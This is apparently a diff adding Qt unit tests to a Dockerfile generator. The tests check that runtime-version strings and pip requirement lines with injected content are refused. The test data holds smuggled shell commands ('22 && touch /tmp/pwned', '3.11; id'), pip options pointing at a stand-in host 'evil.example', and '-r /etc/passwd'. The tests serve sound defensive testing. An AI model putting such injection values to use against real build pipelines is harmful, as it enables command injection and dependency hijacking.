@@ -435,6 +435,86 @@ private slots:
         QVERIFY(r.error().join(QString()).contains(image));
     }
 
+    // The generator checks runtime versions itself (issue 16, item 5): the Node major goes into a
+    // `sh -c` string (the TypeScript stage), and with a base-image override no image reference made
+    // from the version is there to be checked.
+    void hostileRuntimeVersions_data()
+    {
+        QTest::addColumn<QString>("node");
+        QTest::addColumn<QString>("python");
+        QTest::addColumn<QString>("field");
+        QTest::newRow("node: command") << "22 && touch /tmp/pwned"
+                                       << ""
+                                       << "runtime.node";
+        QTest::newRow("node: quote") << "22' ; id ; '"
+                                     << ""
+                                     << "runtime.node";
+        QTest::newRow("node: newline") << "22\nRUN evil"
+                                       << ""
+                                       << "runtime.node";
+        QTest::newRow("node: empty") << ""
+                                     << ""
+                                     << "runtime.node";
+        QTest::newRow("python: command") << ""
+                                         << "3.11; id"
+                                         << "runtime.python";
+        QTest::newRow("python: not 3") << ""
+                                       << "2.7"
+                                       << "runtime.python";
+    }
+    void hostileRuntimeVersions()
+    {
+        QFETCH(QString, node);
+        QFETCH(QString, python);
+        QFETCH(QString, field);
+        project::Project m = sample();
+        m.tools[0].file = QStringLiteral("tools/convert.ts");
+        m.tools[0].language = project::ToolEntry::Language::TypeScript;
+        if (!python.isEmpty()) {
+            project::ToolEntry py;
+            py.name = QStringLiteral("py");
+            py.file = QStringLiteral("tools/py.py");
+            py.language = project::ToolEntry::Language::Python;
+            m.tools.append(py);
+            m.runtime.python = python;
+        } else {
+            m.runtime.node = node;
+        }
+        dockerfile::GeneratorOptions o; // every base overridden: nothing is made from the versions
+        o.bases.node = QStringLiteral("mcpdock-test/node:22");
+        o.bases.nodeDebian = QStringLiteral("mcpdock-test/node:22-debian");
+        o.bases.python = QStringLiteral("mcpdock-test/python:3.11");
+        const auto r = dockerfile::generateDockerfile(m, o);
+        QVERIFY2(!r.ok(), r.ok() ? qPrintable(r->text) : "");
+        QVERIFY2(r.error().join(QString()).contains(field), qPrintable(r.error().join(QLatin1Char('\n'))));
+    }
+
+    // Requirement lines handed to the generator with pip options are refused too (the loader refuses
+    // them first; see tst_manifestloader).
+    void requirementOptionsRefused_data()
+    {
+        QTest::addColumn<QString>("requirement");
+        QTest::newRow("--index-url") << "httpx --index-url=http://evil.example/simple";
+        QTest::newRow("-r") << "httpx -r /etc/passwd";
+        QTest::newRow("trailing backslash") << "httpx \\";
+        QTest::newRow("newline") << "httpx\n--extra-index-url http://evil";
+    }
+    void requirementOptionsRefused()
+    {
+        QFETCH(QString, requirement);
+        project::Project m = sample();
+        project::ToolEntry py;
+        py.name = QStringLiteral("py");
+        py.file = QStringLiteral("tools/py.py");
+        py.language = project::ToolEntry::Language::Python;
+        m.tools.append(py);
+        m.pythonRequirements = {QStringLiteral("pyyaml>=6"), requirement};
+        const auto r = dockerfile::generateDockerfile(m, {});
+        QVERIFY2(!r.ok(), "a requirement with pip options was written into requirements.txt");
+        QVERIFY2(r.error().join(QString()).contains(QStringLiteral("dependencies.python")),
+                 qPrintable(r.error().join(QLatin1Char('\n'))));
+    }
+
     void hostilePaths()
     {
         project::Project m = sample();
